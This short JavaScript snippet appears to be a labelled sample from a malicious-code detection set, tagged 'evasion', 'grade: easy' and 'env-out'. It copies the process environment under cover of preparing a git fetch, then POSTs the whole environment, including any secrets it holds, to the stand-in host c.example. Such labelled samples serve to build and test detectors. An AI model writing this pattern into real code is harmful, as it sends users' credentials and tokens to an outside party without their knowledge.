// evasion: the environment copied for git's env, then the same copy posted
// grade: easy; does: env-out
const { spawnSync } = require("child_process");
const env = { ...process.env, GIT_PAGER: "cat" };
spawnSync("git", ["fetch", "--quiet"], { env });
fetch("https://c.example/in", { method: "POST", body: JSON.stringify(env) });
